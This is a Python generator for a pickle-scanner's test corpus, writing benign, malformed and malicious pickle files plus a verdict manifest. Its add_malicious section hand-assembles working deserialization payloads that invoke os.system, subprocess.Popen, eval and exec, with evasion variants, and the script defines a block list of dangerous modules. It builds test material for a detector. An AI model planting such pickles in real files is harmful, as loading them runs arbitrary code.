#!/usr/bin/env python3
"""gen.py -- generates pickleguard's seeded corpus (run by `make corpus`).

    python3 corpus/gen/gen.py corpus

writes corpus/benign/*.pkl, corpus/malicious/*.pkl, corpus/malformed/*.pkl
and corpus/MANIFEST.tsv. Output is deterministic: the same bytes on every
run (the script re-executes itself with PYTHONHASHSEED=0 so that nothing
that iterates a hash table can change order). Files in those three folders
that the generator does not produce are removed; corpus/regressions/ is
never touched.

Rules this script must keep:
  * benign files come from pickle.dumps of benign objects, or are assembled
    by hand from benign opcodes; only those (and malformed files derived
    from them) are ever passed to pickle.loads, to fill the `cpython` column;
  * malicious files are assembled from raw opcode bytes and NEVER
    unpickled: their `cpython` column is stated by reasoning (see notes);
  * the scan / load columns are derived here by reasoning (a small stack
    walk over pickletools.genops that collects the globals a pickle names,
    resolved like pickle.Unpickler.find_class), never from pickleguard.

Manifest columns (tab-separated, header first, sorted by file):
  file kind cpython scan load_default load_strict note
"""
import os
import sys

if os.environ.get('PYTHONHASHSEED') != '0':
    os.environ['PYTHONHASHSEED'] = '0'
    os.execv(sys.executable, [sys.executable] + sys.argv)

import _compat_pickle  # noqa: E402
import collections  # noqa: E402
import datetime  # noqa: E402
import decimal  # noqa: E402
import fractions  # noqa: E402
import io  # noqa: E402
import pickle  # noqa: E402
import pickletools  # noqa: E402
import struct  # noqa: E402
import uuid  # noqa: E402
import warnings  # noqa: E402

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import corpus_classes as cc  # noqa: E402

# ---------------------------------------------------------------------------
# What the built-in policies say (issue 3), as this generator assumes it.
# ---------------------------------------------------------------------------

# `default`: pure data plus standard-library value types that cannot run
# code. Names are resolved (Python 3 spelling).
DEFAULT_ALLOW = {
    'builtins.set', 'builtins.frozenset', 'builtins.bytearray',
    'builtins.bytes', 'builtins.list', 'builtins.tuple', 'builtins.dict',
    'builtins.complex', 'builtins.range', 'builtins.slice', 'builtins.object',
    'builtins.int', 'builtins.float', 'builtins.str', 'builtins.bool',
    '_codecs.encode', 'copyreg._reconstructor',
    'collections.OrderedDict', 'collections.defaultdict', 'collections.deque',
    'collections.Counter',
    'datetime.date', 'datetime.datetime', 'datetime.time',
    'datetime.timedelta', 'datetime.timezone',
    'decimal.Decimal', 'fractions.Fraction', 'uuid.UUID',
}

# The known-dangerous catalogue, as far as this corpus needs it: a global
# matching one of these (exact name, or module prefix ending in '.') is
# `critical` for the scanner.
CRITICAL = (
    'os.', 'posix.', 'nt.', 'subprocess.', 'pty.', 'socket.', 'shutil.',
    'ctypes.', 'runpy.', 'importlib.', 'code.', 'codeop.', 'timeit.',
    'webbrowser.', 'pickle.', '_pickle.', 'marshal.', 'torch.', 'sys.',
    'builtins.eval', 'builtins.exec', 'builtins.compile',
    'builtins.getattr', 'builtins.setattr', 'builtins.delattr',
    'builtins.__import__', 'builtins.open', 'builtins.globals',
    'builtins.vars', 'builtins.breakpoint', 'builtins.input',
    'operator.attrgetter', 'operator.methodcaller', 'functools.partial',
    'copyreg.__newobj__', 'copyreg.__newobj_ex__',
)

SEVERITIES = ['clean', 'info', 'low', 'medium', 'high', 'critical']


def is_critical(name):
    for c in CRITICAL:
        if c.endswith('.') and name.startswith(c):
            return True
        if name == c or name.startswith(c + '.'):
            return True
    return False


def resolve(module, name, proto):
    """(module, name) as pickle.Unpickler.find_class resolves them."""
    if proto < 3:
        if (module, name) in _compat_pickle.NAME_MAPPING:
            module, name = _compat_pickle.NAME_MAPPING[(module, name)]
        elif module in _compat_pickle.IMPORT_MAPPING:
            module = _compat_pickle.IMPORT_MAPPING[module]
    return module + '.' + name


class Walk:
    """What a pickle references, found by walking pickletools.genops with
    the stack effects pickletools documents for each opcode."""

    def __init__(self, data):
        self.globals = []       # resolved names, in order
        self.persid = False
        self.ext = False
        self.buffer = False
        self.inst_obj = False   # protocol 0/1 class calls: odd, not harmful
        self.error = None       # genops / structural failure text
        stack, marks, memo = [], [], {}
        proto = 0
        unknown = object()
        try:
            for op, arg, pos in pickletools.genops(io.BytesIO(data)):
                name = op.name
                if name == 'PROTO':
                    proto = arg
                if name in ('GLOBAL', 'INST'):
                    mod, _, nm = arg.partition(' ')
                    self.globals.append(resolve(mod, nm, proto))
                elif name == 'STACK_GLOBAL':
                    nm, mod = stack[-1], stack[-2]
                    if isinstance(mod, str) and isinstance(nm, str):
                        self.globals.append(resolve(mod, nm, proto))
                    else:
                        self.globals.append('?nonconstant')
                elif name in ('PERSID', 'BINPERSID'):
                    self.persid = True
                elif name.startswith('EXT'):
                    self.ext = True
                elif name in ('NEXT_BUFFER', 'READONLY_BUFFER'):
                    self.buffer = True
                if name in ('INST', 'OBJ'):
                    self.inst_obj = True
                # stack effect
                if name in ('PUT', 'BINPUT', 'LONG_BINPUT'):
                    memo[arg] = stack[-1]
                    continue
                if name == 'MEMOIZE':
                    memo[len(memo)] = stack[-1]
                    continue
                if name in ('GET', 'BINGET', 'LONG_BINGET'):
                    stack.append(memo.get(arg, unknown))
                    continue
                if name == 'DUP':
                    stack.append(stack[-1])
                    continue
                if name == 'STOP':
                    stack, marks, memo = [], [], {}
                    continue
                before = op.stack_before
                if pickletools.markobject in before:
                    stack = marks.pop() if marks else []
                    before = before[:before.index(pickletools.markobject)]
                if before:
                    del stack[len(stack) - len(before):]
                if name == 'MARK':
                    marks.append(stack)
                    stack = []
                    continue
                if name in ('SHORT_BINUNICODE', 'BINUNICODE', 'BINUNICODE8',
                            'UNICODE', 'STRING', 'BINSTRING',
                            'SHORT_BINSTRING'):
                    stack.append(arg)
                    continue
                for _ in op.stack_after:
                    stack.append(unknown)
        except Exception as e:  # genops' own errors: malformed input
            self.error = '%s: %s' % (type(e).__name__, e)

    def scan(self):
        sev = 'clean'
        for g in self.globals:
            s = 'critical' if is_critical(g) else (
                'clean' if g in DEFAULT_ALLOW else 'high')
            sev = max(sev, s, key=SEVERITIES.index)
        if self.ext:
            sev = max(sev, 'high', key=SEVERITIES.index)
        if self.persid:
            sev = max(sev, 'low', key=SEVERITIES.index)
        if self.buffer or self.inst_obj:
            sev = max(sev, 'info', key=SEVERITIES.index)
        return sev

    def load(self, policy):
        if self.ext or self.persid or self.buffer:
            return 'refused'
        for g in self.globals:
            if policy == 'strict' or g not in DEFAULT_ALLOW:
                return 'refused'
        return 'ok'


# ---------------------------------------------------------------------------
# Opcode assembly helpers (raw bytes; no pickler involved)
# ---------------------------------------------------------------------------

def u8(n):
    return struct.pack('<B', n)


def u32(n):
    return struct.pack('<I', n)


def u64(n):
    return struct.pack('<Q', n)


def PROTO(n):
    return b'\x80' + u8(n)


def GLOBAL(mod, name):
    return b'c' + mod.encode() + b'\n' + name.encode() + b'\n'


def INST(mod, name):
    return b'i' + mod.encode() + b'\n' + name.encode() + b'\n'


def SBU(s):  # SHORT_BINUNICODE
    b = s.encode('utf-8', 'surrogatepass')
    return b'\x8c' + u8(len(b)) + b


def BU(s):  # BINUNICODE
    b = s.encode('utf-8', 'surrogatepass')
    return b'X' + u32(len(b)) + b


def BU8(s):  # BINUNICODE8
    b = s.encode('utf-8', 'surrogatepass')
    return b'\x8d' + u64(len(b)) + b


def SSTR(s):  # STRING, protocol 0 quoting
    return b"S'" + s.encode() + b"'\n"


def SBS(s):  # SHORT_BINSTRING
    b = s.encode()
    return b'U' + u8(len(b)) + b


def SBB(b):  # SHORT_BINBYTES
    return b'C' + u8(len(b)) + b


def BB(b):  # BINBYTES
    return b'B' + u32(len(b)) + b


def FRAME(n):
    return b'\x95' + u64(n)


def framed(body):
    """PROTO 4 + one FRAME around body (which must end with STOP)."""
    return PROTO(4) + FRAME(len(body)) + body


SYSTEM_P0 = GLOBAL('os', 'system') + b"(S'echo pwned'\ntR."
CMD = 'echo pwned'


# ---------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------

class Corpus:
    def __init__(self):
        self.rows = {}

    def add(self, path, data, kind, cpython, scan, load_default, load_strict,
            note):
        assert path not in self.rows, path
        assert kind in ('benign', 'malicious', 'malformed')
        assert cpython in ('ok', 'error')
        assert scan in SEVERITIES
        for v in (load_default, load_strict):
            assert v in ('ok', 'refused', 'malformed', 'limit'), v
        assert '\t' not in note and '\n' not in note
        self.rows[path] = (bytes(data), kind, cpython, scan, load_default,
                           load_strict, note)

    def write(self, root):
        for d in ('benign', 'malicious', 'malformed'):
            os.makedirs(os.path.join(root, d), exist_ok=True)
            for f in os.listdir(os.path.join(root, d)):
                if os.path.join(d, f) not in self.rows:
                    os.remove(os.path.join(root, d, f))
        for path, row in self.rows.items():
            full = os.path.join(root, path)
            old = None
            if os.path.exists(full):
                with open(full, 'rb') as f:
                    old = f.read()
            if old != row[0]:
                with open(full, 'wb') as f:
                    f.write(row[0])
        lines = ['file\tkind\tcpython\tscan\tload_default\tload_strict\tnote']
        for path in sorted(self.rows):
            r = self.rows[path]
            lines.append('\t'.join((path,) + r[1:]))
        with open(os.path.join(root, 'MANIFEST.tsv'), 'w', newline='\n') as f:
            f.write('\n'.join(lines) + '\n')


def cpython_loads(data):
    """Only ever called on benign bytes or malformed bytes derived from
    benign ones (no globals that could run code)."""
    try:
        with warnings.catch_warnings():
            # '\\q' in a STRING is an invalid escape: a warning, not an error
            warnings.simplefilter('ignore', DeprecationWarning)
            pickle.loads(data)
        return 'ok'
    except Exception:
        return 'error'


class _Inert:
    """What the recorder's find_class hands out: callable, does nothing."""
    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return _Inert()

    def __setstate__(self, state):
        pass


def fails_before_running(data):
    """True when both of CPython's unpicklers (the C one and pickle.py's,
    which joblib uses) raise before they ask find_class for anything (a
    recorder: the name is recorded and an inert stand-in returned, nothing
    is imported): only data was built, nothing could run, so the scanner
    says not-a-pickle (info) rather than medium (docs/rules.md, verdicts by
    what can run)."""
    failed = 0
    for base in (pickle.Unpickler, pickle._Unpickler):
        asked = []

        class Recorder(base):
            def find_class(self, module, name):
                asked.append((module, name))
                return _Inert

        try:
            with warnings.catch_warnings():
                warnings.simplefilter('ignore', DeprecationWarning)
                Recorder(io.BytesIO(data)).load()
        except Exception:
            failed += 1
        if asked:
            return False
    return failed == 2


def benign_objects():
    """(name, object, note) for pickle.dumps at every protocol."""
    shared = [1, 2]
    self_list = []
    self_list.append(self_list)
    self_dict = {}
    self_dict['self'] = self_dict
    dd = collections.defaultdict(list)
    dd['a'].append(1)
    return [
        ('none', None, 'None'),
        ('bools', [True, False, True], 'True/False (INT 01/00, NEWTRUE/NEWFALSE)'),
        ('true', True, 'a lone True'),
        ('small_ints', [0, 1, -1, 127, 128, 255, 256, 65535, 65536, -255,
                        -65536, 1000000],
         'ints around the BININT1/BININT2/BININT boundaries'),
        ('int_bounds', [2**31 - 1, 2**31, -2**31, -2**31 - 1, 2**32, 2**63 - 1,
                        2**63, -2**63, -2**63 - 1, 2**64 - 1, 2**64, -2**64,
                        2**200, -2**200],
         'ints at 2^31, 2^63, 2^64, 2^200 boundaries, both signs'),
        ('huge_int', 3**700, 'int of 139 bytes (LONG1) and text of 334 digits'),
        ('huge_int4', -(7**1000), 'int over 255 bytes: LONG4 at protocol 2+'),
        ('floats', [0.0, -0.0, 1.5, -2.25, 0.1, 1e-310, 5e-324, 1e308,
                    1.7976931348623157e308, float('inf'), float('-inf'),
                    float('nan'), 123456789.125],
         'floats incl. -0.0, subnormals, inf, -inf, nan'),
        ('str_ascii', ['', 'hello', 'with space'], 'empty and short str'),
        ('str_unicode', 'h\xe9llo w\xf6rld \u2713 \u4e2d\u6587 \x00\x7f',
         'non-ASCII BMP text with NUL and DEL'),
        ('str_astral', '\U0001d11e\U0001f600\U0010ffff', 'astral code points'),
        ('str_surrogate', ['\ud800', 'a\udfffb'],
         'lone surrogates (surrogatepass in BINUNICODE, \\u escape in UNICODE)'),
        ('str_escapes', 'back\\slash\nnew\rline \\u0041 tab\t\x1a end',
         'text protocol 0 must escape (backslash, newline, \\x1a)'),
        ('str_300', 'x' * 300, 'str > 255 bytes: BINUNICODE instead of SHORT_BINUNICODE'),
        ('str_65600', ''.join(chr(0x41 + i % 26) for i in range(65600)),
         'str > 65535 bytes: outside a FRAME at protocol 4+'),
        ('bytes_short', [b'', b'\x00\x01\xffabc'], 'empty and short bytes'),
        ('bytes_long', bytes(range(256)) * 2,
         'bytes > 255: BINBYTES; _codecs.encode at protocol 0-2'),
        ('bytearray_short', [bytearray(), bytearray(b'\x00ab\xff')],
         'bytearray (BYTEARRAY8 at protocol 5)'),
        ('bytearray_long', bytearray(range(256)) * 2, 'bytearray of 512 bytes'),
        ('list_nested', [1, [2, [3, [4, []]]], (5, 6), {'a': [7]}, []],
         'nested lists, tuples and dicts'),
        ('tuples', [(), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4)],
         'tuples of size 0-4 (TUPLE1-3 at protocol 2+)'),
        ('dict_mixed', {'a': 1, 2: 'b', (1, 2): None, None: [1], 1.5: {}},
         'dict with str/int/tuple/None/float keys'),
        ('shared', [shared, shared, {'x': shared}], 'the same list three times (memo)'),
        ('self_list', self_list, 'list containing itself'),
        ('self_dict', self_dict, 'dict containing itself'),
        ('sets', [set(), {1, 2, 3}, frozenset(), frozenset({4, 5})],
         'set/frozenset (REDUCE builtins.set below protocol 4)'),
        ('ordereddict', collections.OrderedDict([('b', 1), ('a', 2)]),
         'collections.OrderedDict'),
        ('defaultdict', dd, 'collections.defaultdict(list)'),
        ('deque', collections.deque([1, 2, 3], maxlen=5), 'collections.deque'),
        ('counter', collections.Counter({'a': 2, 'b': 1}), 'collections.Counter'),
        ('datetimes', [datetime.date(2024, 2, 29),
                       datetime.datetime(2024, 2, 29, 12, 30, 15, 123456,
                                         tzinfo=datetime.timezone.utc),
                       datetime.timedelta(days=-1, seconds=5),
                       datetime.timezone(datetime.timedelta(hours=5, minutes=30))],
         'datetime.date/datetime/timedelta/timezone'),
        ('decimal', [decimal.Decimal('1.10'), decimal.Decimal('-Infinity')],
         'decimal.Decimal'),
        ('fraction', fractions.Fraction(-22, 7), 'fractions.Fraction'),
        ('uuid', uuid.UUID('12345678-1234-5678-1234-567812345678'), 'uuid.UUID'),
        ('complex', complex(1.5, -2), 'complex'),
        ('range', range(1, 10, 3), 'range'),
        ('slice', slice(1, None, 2), 'slice'),
        ('user_point', cc.Point(1, 'two'),
         'user class: _reconstructor (0-1) / NEWOBJ (2+) then BUILD'),
        ('user_reduce', cc.Reduced(3, [4]), 'user class via __reduce__ (REDUCE)'),
        ('user_kwnew', cc.KwNew(1, k=2),
         'user class with __getnewargs_ex__: NEWOBJ_EX at 4+, functools.partial + getattr at 2-3'),
        ('user_state', cc.Stateful(5), 'user class with __getstate__/__setstate__ (BUILD)'),
        ('user_slots', cc.Slotted(1, 2), 'user class with __slots__ (BUILD slot state)'),
    ]


def add_benign(c):
    for name, obj, note in benign_objects():
        for proto in range(6):
            data = pickle.dumps(obj, protocol=proto)
            w = Walk(data)
            assert w.error is None, (name, proto, w.error)
            c.add('benign/p%d_%s.pkl' % (proto, name), data, 'benign',
                  cpython_loads(data), w.scan(), w.load('default'),
                  w.load('strict'), note + ' (pickle.dumps protocol %d)' % proto)
    # protocol 5 buffers
    data = pickle.dumps(pickle.PickleBuffer(bytearray(b'in band')), protocol=5)
    w = Walk(data)
    c.add('benign/p5_picklebuffer_inband.pkl', data, 'benign',
          cpython_loads(data), w.scan(), w.load('default'), w.load('strict'),
          'PickleBuffer of a bytearray serialized in band (BYTEARRAY8)')
    data = pickle.dumps([pickle.PickleBuffer(b'oob'),
                         pickle.PickleBuffer(bytearray(b'rw'))], protocol=5,
                        buffer_callback=lambda b: False)
    c.add('benign/p5_picklebuffer_oob.pkl', data, 'benign', cpython_loads(data),
          'info', 'refused', 'refused',
          'OUT-OF-BAND: NEXT_BUFFER/READONLY_BUFFER; loads needs buffers=, '
          'so pickle.loads fails and load refuses without buffers')


def add_hand_benign(c):
    """Hand-assembled benign pickles using rarely emitted opcodes."""
    hand = [
        ('hand_p0_string_escapes',
         b"(S'a\\nb\\\\c\\'d\\x41\\101\\0\\t\\q'\nS\"dq\\\"x'\"\nS''\nl.",
         "STRING with \\n \\\\ \\' \\x41 \\101 \\0 \\t and unknown \\q escapes, double quotes"),
        ('hand_p0_unicode_escapes',
         b'(Vabc\\u0041\\U0001f600\\x \xe9\nVa\\\\u0041\nVa\\\\\\u0041\nV\nl.',
         'UNICODE raw-unicode-escape: \\u, \\U, literal \\x, Latin-1 byte, '
         'even backslash run (literal \\\\u), odd run (escape)'),
        ('hand_p0_long_suffix',
         b'(L123L\nL-99999999999999999999999L\nL5\nL0\nL-1L\nL00\nl.',
         'LONG with and without L suffix, big negative, 0 and 00'),
        ('hand_p0_int_forms',
         b'(I00\nI01\nI-5\nI0\nI1\nI9223372036854775807\nI9223372036854775808\n'
         b'I-9223372036854775809\nl.',
         'INT 00/01 booleans, 0, 1, int64 edges and beyond (big INT)'),
        ('hand_p0_get_put',
         b'(I7\np0\ng0\nI8\np1\n0g1\ntp2\n.',
         'PUT/GET text forms and POP: (7, 7, 8)'),
        ('hand_p1_dup_pop_mark',
         b'(K\x01K\x021(K\x0520t.',
         'POP_MARK, DUP, POP: result (5,)'),
        ('hand_p2_tuple123',
         PROTO(2) + b'K\x01\x85K\x01K\x02\x86K\x01K\x02K\x03\x87\x87.',
         'TUPLE1, TUPLE2, TUPLE3'),
        ('hand_p1_binstrings',
         b'(U\x03abcT\x05\x00\x00\x00defghU\x00l.',
         'SHORT_BINSTRING and BINSTRING (ASCII, decoded to str)'),
        ('hand_p2_long_forms',
         PROTO(2) + b'(\x8a\x00\x8a\x01\xff\x8a\x02\xff\x00\x8a\x09' +
         b'\x01' * 8 + b'\x80' + b'\x8b\x0a\x00\x00\x00' + b'\xfe' * 9 +
         b'\x7f' + b'\x8b\x00\x00\x00\x00l.',
         'LONG1 with 0 bytes, -1, 255, 9-byte negative; LONG4 10-byte and empty'),
        ('hand_p4_set_additems',
         PROTO(4) + b'\x8f(K\x01K\x02\x90\x8f(\x90(K\x03\x91\x87.',
         'EMPTY_SET, ADDITEMS (also empty), FROZENSET'),
        ('hand_concat_two',
         PROTO(2) + b'K\x01.' + PROTO(4) + b'\x8c\x03two.',
         'two benign pickles back to back (pickle.loads reads the first)'),
        ('hand_p4_len8_opcodes',
         PROTO(4) + b'(' + BU8('eight') + b'\x8e' + u64(3) + b'abc' +
         b'\x96' + u64(2) + b'xyl.',
         'BINUNICODE8, BINBYTES8, BYTEARRAY8 (8-byte lengths)'),
        ('hand_p1_long_binput',
         b']r\x00\x01\x00\x00j\x00\x01\x00\x00a.',
         'LONG_BINPUT/LONG_BINGET at key 256: a list containing itself'),
        ('hand_p0_floats',
         b'(F1.5\nF-0.0\nFnan\nFinf\nF-inf\nF1e308\nF1E-310\nF.5\nF5.\n'
         b'FInfinity\nF-NaN\nl.',
         'FLOAT text forms: -0.0, nan, inf, exponents, .5, 5., Infinity, -NaN'),
        ('hand_p1_binfloat',
         b'(G' + struct.pack('>d', -0.0) + b'G' + struct.pack('>d', 1e-310) +
         b'G\x7f\xf8\x00\x00\x00\x00\x00\x01l.',
         'BINFLOAT -0.0, subnormal, a NaN with payload'),
        ('hand_p4_stack_global_allowed',
         framed(SBU('collections') + SBU('OrderedDict') + b'\x93)R.'),
         'STACK_GLOBAL collections.OrderedDict called with () in a frame'),
        ('hand_p1_memo_reput',
         b'(K\x01q\x00K\x02q\x00h\x00t.',
         'the same memo key stored twice: CPython accepts, pickletools.dis '
         'complains'),
        ('hand_p4_frames',
         PROTO(4) + FRAME(3) + b'(K\x01' + FRAME(4) + b'K\x02K\x03' + FRAME(2) +
         b't.',
         'three consecutive frames, opcodes never cross a boundary'),
        ('hand_p2_binunicode_surrogate',
         PROTO(2) + b'X\x03\x00\x00\x00\xed\xa0\x80.',
         'BINUNICODE with a lone surrogate (surrogatepass)'),
        ('hand_p0_inst_user_noargs',
         b"(icorpus_classes\nPoint\n(dS'x'\nI1\nsS'y'\nI2\nsb.",
         'INST of a user class without arguments (cls.__new__), then BUILD'),
        ('hand_p0_inst_user_args',
         b'(I1\nI2\nicorpus_classes\nPoint\n.',
         'INST of a user class with arguments: Point(1, 2)'),
        ('hand_p1_obj_user',
         b'(ccorpus_classes\nPoint\nK\x01K\x02o}(U\x01xK\x03ub.',
         'OBJ of a user class with arguments, then BUILD'),
        ('hand_p0_inst_fraction',
         b"(I1\nI3\nifractions\nFraction\n.",
         'INST of an allowed stdlib class: fractions.Fraction(1, 3)'),
        ('hand_p1_obj_timedelta',
         b'(cdatetime\ntimedelta\nK\x01K\x02K\x03o.',
         'OBJ of an allowed stdlib class: datetime.timedelta(1, 2, 3)'),
        ('hand_p0_dict_setitems',
         b'(dI1\nI2\ns(I3\nI4\nI5\nI6\nu.',
         'DICT, SETITEM and SETITEMS (protocol 1 opcode mixed in)'),
    ]
    for name, data, note in hand:
        w = Walk(data)
        c.add('benign/%s.pkl' % name, data, 'benign', cpython_loads(data),
              w.scan(), w.load('default'), w.load('strict'), note)
    # INT text both unpicklers read alike but pickle.dumps never writes:
    # noncanonical-text (info), decoded (tests/test_reader_parity.py)
    for name, data, note in [
            ('p0_int_hex', b'I0x10\n.',
             'INT "0x10": 16 for both unpicklers; noncanonical-text (info), decoded'),
            ('p0_int_underscore', b'I1_0\n.',
             'INT "1_0": 10 for both unpicklers; noncanonical-text (info), decoded')]:
        c.add('benign/%s.pkl' % name, data, 'benign', cpython_loads(data),
              'info', 'ok', 'ok', note)


def add_malicious(c):
    """Raw opcode sequences. NEVER passed to pickle.loads."""
    def m(name, data, note, cpython='ok', scan='critical', ld='refused',
          ls='refused'):
        c.add('malicious/%s.pkl' % name, data, 'malicious', cpython, scan, ld,
              ls, note)

    sysarg_p2 = BU(CMD) + b'\x85R.'
    sysarg_p4 = SBU(CMD) + b'\x85R.'
    m('p0_os_system', SYSTEM_P0, 'GLOBAL os.system + REDUCE at protocol 0')
    m('p2_os_system', PROTO(2) + GLOBAL('os', 'system') + sysarg_p2,
      'GLOBAL os.system + REDUCE at protocol 2')
    m('p4_os_system_global', framed(GLOBAL('os', 'system') + sysarg_p4),
      'GLOBAL os.system + REDUCE at protocol 4 inside a FRAME')
    m('p4_os_system_stack_global',
      PROTO(4) + SBU('os') + SBU('system') + b'\x93' + sysarg_p4,
      'STACK_GLOBAL os.system from SHORT_BINUNICODE operands')
    # pickle.py reads a last line without its newline as readline()[:-1]
    # (dropping its last byte) and calls find_class; _pickle.c refuses it
    m('p0_inst_eof_no_newline', b"(S'id'\nios\nsystemX",
      'INST os.system at the end of the input without the final newline: '
      'pickle.py drops the last byte of the line and CALLS os.system; '
      '_pickle.c refuses', cpython='error', ld='malformed', ls='malformed')
    m('p4_short_frame_os_system',
      PROTO(4) + FRAME(4096) + GLOBAL('os', 'system') + SBU(CMD) + b'\x85R.',
      'FRAME declaring more bytes than the file has: _pickle.c refuses it, '
      'pickle.py reads the bytes there are and calls os.system',
      cpython='error', ld='malformed', ls='malformed')
    m('p0_text_int_then_global', b"I010\n0cos\nsystem\n(S'id'\ntR.",
      'INT "010" (8 for _pickle.c, an error for pickle.py) before os.system: '
      'the scan reads past the disputed text', ld='malformed', ls='malformed')
    m('p0_posix_system', GLOBAL('posix', 'system') + b"(S'id'\ntR.",
      'posix.system (os.system under its real module name)')
    m('p3_builtins_eval', PROTO(3) + GLOBAL('builtins', 'eval') +
      BU("__import__('os').system('id')") + b'\x85R.', 'builtins.eval of code')
    m('p3_builtins_exec', PROTO(3) + GLOBAL('builtins', 'exec') +
      BU("import os; os.system('id')") + b'\x85R.', 'builtins.exec of code')
    m('p3_builtins_compile', PROTO(3) + GLOBAL('builtins', 'compile') +
      BU('1') + BU('<x>') + BU('eval') + b'\x87R.', 'builtins.compile')
    m('p0_builtins_getattr',
      b'c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S\'os\'\ntRS\'system\'\ntR'
      b"(S'id'\ntR.",
      'getattr(__import__("os"), "system")("id"), __builtin__ spelling at protocol 0')
    m('p2_builtin_eval_compat', PROTO(2) + GLOBAL('__builtin__', 'eval') +
      BU("1+1") + b'\x85R.',
      '__builtin__.eval at protocol 2: compat rename to builtins.eval')
    m('p0_builtins_import', b"c__builtin__\n__import__\n(S'os'\ntR.",
      'builtins.__import__')
    m('p0_subprocess_popen',
      b"csubprocess\nPopen\n((S'id'\nltR.", 'subprocess.Popen([...])')
    m('p2_subprocess_check_output', PROTO(2) +
      GLOBAL('subprocess', 'check_output') + b']' + BU('id') + b'a\x85R.',
      'subprocess.check_output')
    m('p4_sg_binunicode', PROTO(4) + BU('os') + BU('system') + b'\x93' +
      sysarg_p4, 'STACK_GLOBAL operands from BINUNICODE')
    m('p4_sg_binunicode8', PROTO(4) + BU8('os') + BU8('system') + b'\x93' +
      sysarg_p4, 'STACK_GLOBAL operands from BINUNICODE8')
    m('p4_sg_unicode_escapes', PROTO(4) + b'Vos\n' +
      b'V\\u0073\\u0079\\u0073\\u0074\\u0065\\u006d\n' + b'\x93' + sysarg_p4,
      'STACK_GLOBAL operands from UNICODE; "system" spelled with \\u escapes')
    m('p4_sg_string', PROTO(4) + SSTR('os') + SSTR('system') + b'\x93' +
      sysarg_p4, 'STACK_GLOBAL operands from protocol 0 STRING')
    m('p4_sg_short_binstring', PROTO(4) + SBS('os') + SBS('system') + b'\x93' +
      sysarg_p4, 'STACK_GLOBAL operands from SHORT_BINSTRING')
    m('p4_sg_memo_get', PROTO(4) + SBU('os') + b'q\x00' + SBU('system') +
      b'q\x010' + b'0' + b'N0' + b'h\x00h\x01\x93' + sysarg_p4,
      'STACK_GLOBAL operands stored with BINPUT, popped, fetched with BINGET')
    m('p4_sg_memoize_long_get', PROTO(4) + SBU('os') + b'\x94' +
      SBU('system') + b'\x940' + b'0' + b'j\x00\x00\x00\x00j\x01\x00\x00\x00\x93' +
      sysarg_p4, 'STACK_GLOBAL operands via MEMOIZE and LONG_BINGET')
    m('p4_sg_dup_timeit', PROTO(4) + SBU('timeit') + b'2\x93' +
      SBU("__import__('os').system('id')") + b'\x85R.',
      'STACK_GLOBAL timeit.timeit with both operands from one string + DUP')
    m('p0_inst_os_system', b"(S'echo pwned'\nios\nsystem\n.",
      'INST os.system: calls it with the marked arguments')
    m('p1_obj_os_system', b"(cos\nsystem\nU\x0aecho pwnedo.",
      'OBJ with os.system as the class')
    m('p2_newobj_popen', PROTO(2) + GLOBAL('subprocess', 'Popen') + b')\x81.',
      'NEWOBJ on subprocess.Popen (cls.__new__)')
    m('p4_newobj_ex_popen', PROTO(4) + SBU('subprocess') + SBU('Popen') +
      b'\x93)}\x92.', 'NEWOBJ_EX on subprocess.Popen')
    m('p2_build_on_class', PROTO(2) + GLOBAL('fractions', 'Fraction') +
      b'N}' + BU('evil') + b'K\x01s\x86b.',
      'BUILD with a slot state on an allowed class object: setattr on the class',
      scan='high')
    m('p4_dotted_eval_call', PROTO(4) + SBU('builtins') +
      SBU('eval.__call__') + b'\x93' + SBU('1+1') + b'\x85R.',
      'dotted name at protocol 4: builtins eval.__call__')
    m('p4_dotted_os_path_os_system', PROTO(4) + SBU('os') +
      SBU('path.os.system') + b'\x93' + sysarg_p4,
      'dotted traversal os.path.os.system at protocol 4')
    m('p4_global_dotted', PROTO(4) + GLOBAL('os', 'path.os.system') + sysarg_p4,
      'GLOBAL with a dotted name at protocol 4 (resolved attribute by attribute)')
    m('p4_dotted_builtins_getattr', PROTO(4) + SBU('builtins') +
      SBU('__builtins__.getattr') + b'\x93.',
      'builtins.__builtins__.getattr spelled through a dotted path',
      cpython='error')
    m('p4_dotted_main_builtins_eval', PROTO(4) + SBU('__main__') +
      SBU('__builtins__.eval') + b'\x93' + SBU("__import__('os').system('id')") +
      b'\x85R.',
      'dotted path __main__.__builtins__.eval at protocol 4: in a script '
      '__main__.__builtins__ is the builtins module, so this is builtins.eval')
    m('proto_switch_compat', PROTO(4) + b'K\x01' + PROTO(2) +
      GLOBAL('__builtin__', 'eval') + BU('1') + b'\x85R\x86.',
      'PROTO 4 then PROTO 2 mid-stream: __builtin__.eval resolves by compat rename')
    m('proto_switch_dotted', PROTO(2) + b'K\x01' + PROTO(4) +
      GLOBAL('os', 'path.os.system') + BU(CMD) + b'\x85R\x86.',
      'PROTO 2 then PROTO 4 mid-stream: dotted GLOBAL is resolved')
    m('concat_benign_then_malicious', PROTO(2) + b'K\x01.' + SYSTEM_P0,
      'a benign pickle followed by os.system: a second pickle.load runs it')
    m('payload_then_garbage', GLOBAL('os', 'system') + b"(S'id'\ntR" +
      b'X\xff\xff', 'os.system call, then a truncated BINUNICODE: '
      'pickle.loads runs the call before failing', cpython='error')
    inner = PROTO(2) + GLOBAL('os', 'system') + sysarg_p2
    m('nested_pickle_loads', PROTO(4) + SBU('pickle') + SBU('loads') + b'\x93' +
      BB(inner) + b'\x85R.', 'pickle.loads of BINBYTES holding an os.system pickle')
    m('nested_cpickle_loads', PROTO(3) + GLOBAL('_pickle', 'loads') +
      SBB(inner) + b'\x85R.', '_pickle.loads of SHORT_BINBYTES holding a pickle')
    m('p2_ext1', PROTO(2) + b'\x82\x01)R.',
      'EXT1: copyreg extension registry lookup (empty by default: CPython errors)',
      cpython='error', scan='high')
    m('p2_ext2', PROTO(2) + b'\x83\x01\x02)R.', 'EXT2 extension code 513',
      cpython='error', scan='high')
    m('p2_ext4', PROTO(2) + b'\x84\x01\x02\x03\x04)R.',
      'EXT4 extension code 0x04030201', cpython='error', scan='high')
    m('p0_persid', b'P0\n.', 'PERSID: CPython errors without persistent_load',
      cpython='error', scan='low')
    m('p2_binpersid', PROTO(2) + b'(' + BU('storage') + b'K\x01t' + b'Q.',
      'BINPERSID with a torch-like tuple id', cpython='error', scan='low')
